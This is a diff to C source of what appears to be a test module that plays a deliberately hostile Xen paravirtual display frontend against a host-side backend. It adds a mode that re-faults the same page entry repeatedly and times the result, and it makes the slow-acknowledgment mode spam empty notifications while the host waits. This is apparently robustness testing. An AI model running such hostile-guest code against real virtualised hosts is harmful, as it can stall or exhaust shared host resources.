@@ -61,8 +61,9 @@ enum evil_mode {
 	MODE_SLOW_ACK,		/* takes all the time it has for each acknowledgment */
 	MODE_OBJECTS,		/* not crimes: ids of objects and fences that are wrong */
 	MODE_RACE,		/* such ids, at random and many at a time */
-	MODE_MERGE_UNKNOWN,	/* from here on: ends the connection */
-	MODE_EVENTFD_BYTES,	/* bytes that have to be 0 */
+	MODE_MERGE_UNKNOWN,	/* ends the connection */
+	MODE_EVENTFD_BYTES,	/* bytes that have to be 0: ends the connection */
+	MODE_ENTRY_AGAIN,	/* PV: has the same entry written again and again */
 };
 
 static int mode;
@@ -215,13 +216,19 @@ static int evil_fault(u64 entry)
 /* Until the backend does not answer any more */
 static const char *evil_slow(void)
 {
+	unsigned long end;
 	u32 seq = 0, prod;
 
 	while (evil_fault(0) == XENDRM_PAGE_GRANT) {
 		while (evil.dev->state == XenbusStateConnected &&
 		       READ_ONCE(evil.events->prod) == evil.events->cons)
 			msleep(20);
-		msleep(SLOW_MS);
+		/* Notifications that bring nothing, while the host waits for us */
+		end = jiffies + msecs_to_jiffies(SLOW_MS - 20);
+		while (time_before(jiffies, end)) {
+			notify_remote_via_irq(evil.irq);
+			msleep(20);
+		}
 		virt_rmb();
 		prod = READ_ONCE(evil.events->prod);
 		while (evil.events->cons != prod) {
@@ -283,11 +290,38 @@ static const char *evil_keep(void)
 	return "has the page still";
 }
 #else
+static u64 evil_entry(void *va, u64 *value)
+{
+	return 0;
+}
+
 static const char *evil_keep(void)
 {
 	return "not PV";
 }
 #endif
+
+#define AGAIN	30
+
+/* Each time Xen may flush caches for it. Return: how long it took. */
+static const char *evil_again(void)
+{
+	void *here = vmalloc(PAGE_SIZE);
+	u64 begin = ktime_get_ns(), value;
+	static char took[32];
+	u64 entry;
+	int n;
+
+	if (!here || evil_map())
+		return "no mapping";
+	*(u32 *)here = 0;
+	entry = evil_entry(here, &value);
+	for (n = 0; n < AGAIN; n++)
+		if (evil_fault(entry) != XENDRM_PAGE_DEVICE)
+			return "got no page";
+	snprintf(took, sizeof(took), "%llu s", (ktime_get_ns() - begin) / NSEC_PER_SEC);
+	return took;
+}
 
 /* In a thread of its own: the bus waits for nobody. */
 static void evil_steal(struct work_struct *work)
@@ -296,6 +330,8 @@ static void evil_steal(struct work_struct *work)
 		evil.verdict = evil_objects();
 	else if (mode == MODE_RACE)
 		evil.verdict = evil_race();
+	else if (mode == MODE_ENTRY_AGAIN)
+		evil.verdict = evil_again();
 	else if (mode == MODE_SLOW_ACK)
 		evil.verdict = evil_map() ? "no mapping" : evil_slow();
 	else if (mode == MODE_ENTRY_FOREIGN)
@@ -395,6 +431,7 @@ static void evil_act(void)
 	case MODE_SLOW_ACK:
 	case MODE_OBJECTS:
 	case MODE_RACE:
+	case MODE_ENTRY_AGAIN:
 		schedule_work(&evil.thief);
 		return;
 	case MODE_MERGE_UNKNOWN:
@@ -501,7 +538,8 @@ static void evil_publish(void)
 	evil_key("event-channel", evil.port, mode == MODE_KEY_CHANNEL, 0x7fffffff);
 	if (mode >= MODE_OBJECTS)
 		xenbus_write(XBT_NIL, evil.dev->nodename, "feature-objects", "1");
-	if (mode == MODE_ENTRY_FOREIGN || mode == MODE_ENTRY_KEEP)
+	if (mode == MODE_ENTRY_FOREIGN || mode == MODE_ENTRY_KEEP ||
+	    mode == MODE_ENTRY_AGAIN)
 		xenbus_write(XBT_NIL, evil.dev->nodename, "device-pages", "entries");
 	else if (mode >= MODE_WINDOW_MISSING && mode < MODE_ENTRY_FOREIGN)
 		evil_window();
